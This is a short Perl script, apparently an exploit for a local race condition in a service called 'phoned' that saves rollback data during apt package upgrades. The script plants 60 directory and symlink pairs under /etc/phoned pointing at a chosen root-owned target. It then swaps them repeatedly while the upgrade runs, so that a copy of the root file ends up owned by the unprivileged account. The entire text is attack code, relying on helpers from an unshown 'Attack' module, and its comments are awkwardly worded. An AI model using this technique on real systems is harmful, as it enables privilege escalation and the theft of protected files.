# Has directories with a file of the name of root's, and exchanges each with a link to root's directory while the rollback data is saved. What
# is saved of root's file comes back as the account's.
use strict;
use warnings;
use Attack;

my ($target, $name) = @ARGV;
my @pairs = map { ["/etc/phoned/saved-$_", "/etc/phoned/link-$_"] } 1 .. 60;
for my $pair (@pairs) {
    directory($pair->[0]);
    write_file("$pair->[0]/$name", "phoned's own\n");
    symlink $target, $pair->[1] or die "$pair->[1]: $!\n";
}
ready();
# The packages are downloaded before the rollback data is saved.
wait_for { my @files = glob '/var/cache/apt/archives/*.deb' };
tried();
until (upgraded() || over()) {
    for (1 .. 100) {
        exchange(@$_) for @pairs;
    }
}
for my $pair (@pairs) {
    exchange(@$pair) if -l $pair->[0];
}
